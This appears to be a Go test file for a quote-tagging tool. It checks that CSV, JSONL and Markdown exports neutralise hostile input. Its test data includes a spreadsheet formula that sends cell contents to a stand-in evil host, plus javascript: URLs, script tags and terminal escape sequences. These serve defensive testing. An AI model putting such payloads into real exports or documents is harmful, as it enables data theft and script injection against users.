package store

import (
	"bufio"
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/workbench-dev/workbench/data"
	"github.com/workbench-dev/workbench/internal/model"
)

// hostile are cell values that test CSV injection, quoting and Unicode.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR", "'=already quoted", "''double", "'plain quote",
	`He said "no", then left`, "line one\nline two", "comma, separated", "Медведев: «нет»", "é́ combining",
	" leading space", "", "=", "-", "normal text",
}

func sampleTags(t *testing.T, s *Store) []model.Tag {
	t.Helper()
	ctx := context.Background()
	for i, h := range hostile {
		in := TagInput{
			QuoteID: model.QuoteID(fmt.Sprintf("doc-%d", i), i, i+10), Label: []string{"escalatory", "neutral", "=cmd"}[i%3],
			Target: h, Note: h, Analyst: "ana", Quote: h + " quote", Speaker: h, Title: h, Date: "2025-08-10",
			Source: "kremlin.ru", URL: "http://kremlin.ru/events/" + strconv.Itoa(i),
		}
		if i%4 == 0 {
			in.Quote = h
		}
		if _, err := s.Add(ctx, in); err != nil {
			t.Fatal(err)
		}
	}
	tags, err := s.List(ctx, Filter{})
	if err != nil {
		t.Fatal(err)
	}
	return tags
}

func TestCSVRoundTrip(t *testing.T) {
	s, _ := openTemp(t)
	tags := sampleTags(t, s)
	var buf bytes.Buffer
	if err := Export(&buf, "csv", tags); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(buf.String(), strings.Join(ExportFields, ",")+"\r\n") {
		t.Fatalf("header: %q", strings.SplitN(buf.String(), "\n", 2)[0])
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(tags)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(tags)+1)
	}
	for i, row := range rows[1:] {
		// No cell may start like a formula.
		for j, c := range row {
			if c != "" && strings.IndexByte(formulaStart, c[0]) >= 0 {
				t.Errorf("row %d col %s: %q would run as a formula", i, ExportFields[j], c)
			}
			row[j] = Unneutralize(c)
		}
		want := RecordOf(tags[i]).Strings()
		for j := range want {
			want[j] = normalizeBreaks(want[j])
		}
		if !reflect.DeepEqual(row, want) {
			t.Errorf("row %d read back:\n got %q\nwant %q", i, row, want)
		}
	}
}

func TestNeutralize(t *testing.T) {
	cases := map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"'=x": "''=x", "''": "'''", "'x": "'x", "x=1": "x=1", "": "", "'": "'", "a": "a",
	}
	for in, want := range cases {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
		if back := Unneutralize(Neutralize(in)); back != in {
			t.Errorf("Unneutralize(Neutralize(%q)) = %q", in, back)
		}
	}
}

func FuzzNeutralize(f *testing.F) {
	for _, h := range hostile {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := Neutralize(s)
		if n != "" && strings.IndexByte(formulaStart, n[0]) >= 0 {
			t.Fatalf("Neutralize(%q) = %q starts like a formula", s, n)
		}
		if back := Unneutralize(n); back != s {
			t.Fatalf("round trip %q -> %q -> %q", s, n, back)
		}
	})
}

func TestJSONLExact(t *testing.T) {
	s, _ := openTemp(t)
	tags := sampleTags(t, s)
	var buf bytes.Buffer
	if err := Export(&buf, "jsonl", tags); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&buf)
	i := 0
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatal(err)
		}
		if len(m) != len(ExportFields) {
			t.Fatalf("line %d has %d keys, want %d", i, len(m), len(ExportFields))
		}
		for _, f := range ExportFields {
			if _, ok := m[f]; !ok {
				t.Fatalf("line %d lacks %q", i, f)
			}
		}
		var r Record
		json.Unmarshal(sc.Bytes(), &r)
		if r != RecordOf(tags[i]) {
			t.Fatalf("line %d: %+v, want %+v", i, r, RecordOf(tags[i]))
		}
		if r.Quote != tags[i].Quote { // exact: no neutralisation
			t.Fatalf("quote changed: %q", r.Quote)
		}
		i++
	}
	if i != len(tags) {
		t.Fatalf("%d lines, want %d", i, len(tags))
	}
}

func TestMarkdown(t *testing.T) {
	tm := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	tags := []model.Tag{
		{QuoteID: "d1:0-5", DocID: "d1", End: 5, Label: "escalatory", Speaker: "Vladimir Putin", Quote: "# not a heading\n1. not a list\n*not bold* \x1b[31mred\x1b[0m <script>", Title: "T [1]", Source: "kremlin.ru", Date: "2025-08-01", URL: "http://kremlin.ru/a", Analyst: "ana", CreatedAt: tm, Note: "see `x`"},
		{QuoteID: "d2:0-5", DocID: "d2", End: 5, Label: "escalatory", Speaker: "", Quote: "unknown", URL: "javascript:alert(1)", CreatedAt: tm},
		{QuoteID: "d3:0-5", DocID: "d3", End: 5, Label: "neutral", Speaker: "Yury Ushakov", Quote: "- dash", CreatedAt: tm},
		{QuoteID: "d4:0-5", DocID: "d4", End: 5, Label: "escalatory", Speaker: "Donald Trump", Quote: "b", CreatedAt: tm},
	}
	var buf bytes.Buffer
	if err := WriteMarkdown(&buf, tags, []string{"neutral", "escalatory"}); err != nil {
		t.Fatal(err)
	}
	md := buf.String()
	for _, want := range []string{
		"## neutral (1)", "## escalatory (3)", "### Donald Trump", "### Vladimir Putin", "### Unknown speaker",
		"> \\# not a heading\n", "> 1\\. not a list\n", "> \\*not bold\\* red \\<script\\>", "> \\- dash",
		"— Vladimir Putin, *T \\[1\\]* (kremlin.ru, 2025-08-01) <http://kremlin.ru/a> · `d1:0-5`",
		"note: see \\`x\\`", "tagged by ana on 2026-01-02",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("report lacks %q:\n%s", want, md)
		}
	}
	if strings.Contains(md, "\x1b") || strings.Contains(md, "javascript:") {
		t.Errorf("unsafe text in the report:\n%s", md)
	}
	// Codebook order, then speakers alphabetically, unknown last.
	order := []string{"## neutral", "## escalatory", "### Donald Trump", "### Vladimir Putin", "### Unknown speaker"}
	last := -1
	for _, o := range order {
		i := strings.Index(md, o)
		if i < last {
			t.Errorf("%q out of order", o)
		}
		last = i
	}
}

func TestExportUnknownFormat(t *testing.T) {
	if err := Export(io.Discard, "xlsx", nil); err == nil || !strings.Contains(err.Error(), "csv, jsonl or md") {
		t.Fatalf("err = %v", err)
	}
}

func TestDefaultCodebook(t *testing.T) {
	cb, err := LoadCodebook(data.CodebookTOML())
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"escalatory", "de-escalatory", "conciliatory", "accusatory", "dismissive", "neutral"}
	if !reflect.DeepEqual(cb.Names(), want) {
		t.Fatalf("labels %v, want %v", cb.Names(), want)
	}
	for i, l := range cb.Labels() {
		if l.Key != strconv.Itoa(i+1) || l.Color == "" || l.Description == "" {
			t.Errorf("label %+v", l)
		}
	}
	if l, ok := cb.ByKey("4"); !ok || l.Name != "accusatory" {
		t.Errorf("ByKey(4) = %+v", l)
	}
	if l, ok := cb.ByName("De-Escalatory"); !ok || l.Key != "2" {
		t.Errorf("ByName = %+v", l)
	}
	if _, ok := cb.ByKey("9"); ok {
		t.Error("ByKey(9) found a label")
	}
}

func TestCodebookErrors(t *testing.T) {
	cases := map[string]string{
		`[[label]]
name = "a"
key = 1
[[label]]
name = "b"
key = "1"`: `key 1 already used by label 1`,
		`[[label]]
name = "a"
[[label]]
name = "A"`: `name already used`,
		`[[label]]
name = "a"
key = 0`: `want a digit 1-9`,
		`[[label]]
name = "a"
key = 12`: `want a digit 1-9`,
		`[[label]]
name = "a"
key = 1.5`: `want a digit 1-9`,
		`[[label]]
name = "a"
color = "red"`: `want a hex colour`,
		`[[label]]
name = "two words"`: `no spaces`,
		`[[label]]
key = 1`: `name is missing`,
		`[[label]]
name = "a"
colour = "#fff"`: `unknown field`,
		``:                   `no labels`,
		"[[label]]\nname = ": `line 2`,
	}
	for text, want := range cases {
		_, err := LoadCodebook([]byte(text))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("LoadCodebook(%q): err = %v, want %q", text, err, want)
		}
	}
}

// BenchmarkTag measures one tag (one committed, fsynced transaction) on an
// empty store and on a store that already holds 100k tags.
func BenchmarkTag(b *testing.B) {
	for _, n := range []int{0, 100_000} {
		b.Run(fmt.Sprintf("store=%d", n), func(b *testing.B) {
			s := benchStore(b, n)
			ctx := context.Background()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := s.Add(ctx, quoteInput("bench-new", i, i+1, "neutral")); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// BenchmarkExport100k measures listing and exporting 100k tags.
func BenchmarkExport100k(b *testing.B) {
	s := benchStore(b, 100_000)
	ctx := context.Background()
	b.ResetTimer()
	for _, format := range Formats {
		b.Run(format, func(b *testing.B) {
			var size int64
			for i := 0; i < b.N; i++ {
				tags, err := s.List(ctx, Filter{})
				if err != nil {
					b.Fatal(err)
				}
				cw := &countWriter{}
				if err := Export(cw, format, tags); err != nil {
					b.Fatal(err)
				}
				size = cw.n
			}
			b.ReportMetric(float64(size)/1e6, "MB")
		})
	}
}

type countWriter struct{ n int64 }

func (c *countWriter) Write(p []byte) (int, error) { c.n += int64(len(p)); return len(p), nil }

// benchStore is a store with n tags, made in one transaction (the
// benchmark measures tagging and exporting, not the set-up).
func benchStore(b *testing.B, n int) *Store {
	b.Helper()
	path := filepath.Join(b.TempDir(), "tags.db")
	s, err := Open(path)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { s.Close(); os.Remove(path) })
	labels := []string{"escalatory", "de-escalatory", "conciliatory", "accusatory", "dismissive", "neutral"}
	ctx := context.Background()
	now := time.Now()
	err = s.write(ctx, func(tx *sql.Tx) error {
		for i := 0; i < n; i++ {
			doc := fmt.Sprintf("doc-%05d", i/5)
			t := model.Tag{
				QuoteID: model.QuoteID(doc, i%5*100, i%5*100+80), DocID: doc, Start: i % 5 * 100, End: i%5*100 + 80,
				Label: labels[i%len(labels)], Analyst: "ana", Note: "",
				Quote:   "We are ready to continue the dialogue, but only if our legitimate security interests are respected.",
				Speaker: "Vladimir Putin", Title: "Meeting with the Security Council", Date: "2025-08-10",
				Source: "kremlin.ru", URL: "http://kremlin.ru/events/president/news/" + strconv.Itoa(i), CreatedAt: now, UpdatedAt: now,
			}
			if _, err := s.putTag(ctx, tx, t, newUID(), false); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		b.Fatal(err)
	}
	// Close and reopen: the WAL is checkpointed into the database, as after
	// any session.
	s.Close()
	if s, err = Open(path); err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { s.Close() })
	return s
}

func FuzzLoadCodebook(f *testing.F) {
	f.Add(data.CodebookTOML())
	f.Add([]byte("[[label]]\nname = \"a\"\nkey = 1\ncolor = \"#fff\"\n"))
	f.Add([]byte("[[label]]\nkey = [1]\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		cb, err := LoadCodebook(b)
		if err != nil {
			return
		}
		seen := map[string]bool{}
		for _, l := range cb.Labels() {
			if l.Name == "" || seen["n"+strings.ToLower(l.Name)] || (l.Key != "" && seen["k"+l.Key]) {
				t.Fatalf("invalid codebook accepted: %+v", cb.Labels())
			}
			seen["n"+strings.ToLower(l.Name)] = true
			if l.Key != "" {
				seen["k"+l.Key] = true
			}
		}
	})
}

// BenchmarkOpen100k measures opening a store of 100k tags (with its quick
// integrity check), what every command pays once.
func BenchmarkOpen100k(b *testing.B) {
	s := benchStore(b, 100_000)
	path := s.Path()
	s.Close()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s2, err := Open(path)
		if err != nil {
			b.Fatal(err)
		}
		s2.Close()
	}
	if st, err := os.Stat(path); err == nil {
		b.ReportMetric(float64(st.Size())/1e6, "MB")
	}
}

// BenchmarkList100k measures reading 100k tags (what every export pays).
func BenchmarkList100k(b *testing.B) {
	s := benchStore(b, 100_000)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		tags, err := s.List(context.Background(), Filter{})
		if err != nil || len(tags) != 100_000 {
			b.Fatal(len(tags), err)
		}
	}
}

// FuzzMarkdown: whatever the corpus text, the report has no terminal
// escapes or control characters, and a quote cannot break out of its
// blockquote (every line between the heading and the source line is quoted).
func FuzzMarkdown(f *testing.F) {
	f.Add("# heading\n> quote\n\n1. list", "Putin", "T [x](y)", "\x1b]8;;http://evil\x07link")
	f.Add("```\ncode\n```", "", "", "")
	f.Add("a\r\nb\rc\u202eevil", "<b>", "*", "`")
	f.Fuzz(func(t *testing.T, quote, speaker, title, note string) {
		tags := []model.Tag{{QuoteID: "d:0-1", DocID: "d", End: 1, Label: "neutral", Quote: quote, Speaker: speaker, Title: title, Note: note, URL: note}}
		var buf bytes.Buffer
		if err := WriteMarkdown(&buf, tags, nil); err != nil {
			t.Fatal(err)
		}
		md := buf.String()
		for _, r := range md {
			if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
				t.Fatalf("control character %U in the report:\n%q", r, md)
			}
		}
		// The blockquote: from the first "> " line to the blank line before
		// the source line, every line is quoted.
		lines := strings.Split(md, "\n")
		i := 0
		for i < len(lines) && !strings.HasPrefix(lines[i], ">") {
			i++
		}
		for ; i < len(lines) && lines[i] != ""; i++ {
			if !strings.HasPrefix(lines[i], ">") {
				t.Fatalf("line %d escapes the blockquote: %q\n%s", i, lines[i], md)
			}
		}
		if i+1 >= len(lines) || !strings.HasPrefix(lines[i+1], "— ") {
			t.Fatalf("no source line after the quote:\n%s", md)
		}
	})
}
